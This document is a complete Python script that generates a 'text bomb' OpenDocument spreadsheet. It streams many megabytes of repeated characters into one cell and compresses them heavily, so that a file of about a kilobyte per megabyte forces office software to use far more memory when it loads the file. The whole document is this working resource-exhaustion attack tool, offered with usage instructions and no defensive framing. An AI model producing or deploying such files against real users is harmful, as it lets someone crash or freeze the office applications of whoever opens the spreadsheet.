#!/usr/bin/env python3
"""Writes an OpenDocument spreadsheet (.ods) whose one cell holds a text of
MEGABYTES megabytes: a small file (about 1 KB for every megabyte) that makes
the office take many times that in memory when it loads it.

usage: make_text_bomb.py OUTPUT.ods MEGABYTES
"""
import sys
import zipfile

NAMESPACES = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
              'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
              'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
MIME = "application/vnd.oasis.opendocument.spreadsheet"
MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            '</manifest:manifest>' % MIME)


def main(output, megabytes):
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), MIME)  # first and stored, as the format wants
        archive.writestr("META-INF/manifest.xml", MANIFEST)
        # Streamed, so that writing it takes no more memory than reading it should.
        with archive.open("content.xml", "w", force_zip64=True) as content:
            content.write(('<?xml version="1.0" encoding="UTF-8"?><office:document-content %s '
                           'office:version="1.2"><office:body><office:spreadsheet>'
                           '<table:table table:name="Sheet1"><table:table-row>'
                           '<table:table-cell office:value-type="string"><text:p>' % NAMESPACES).encode())
            block = b"A" * (1 << 20)
            for _ in range(megabytes):
                content.write(block)
            content.write(b'</text:p></table:table-cell></table:table-row></table:table>'
                          b'</office:spreadsheet></office:body></office:document-content>')


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(sys.argv[1], int(sys.argv[2]))
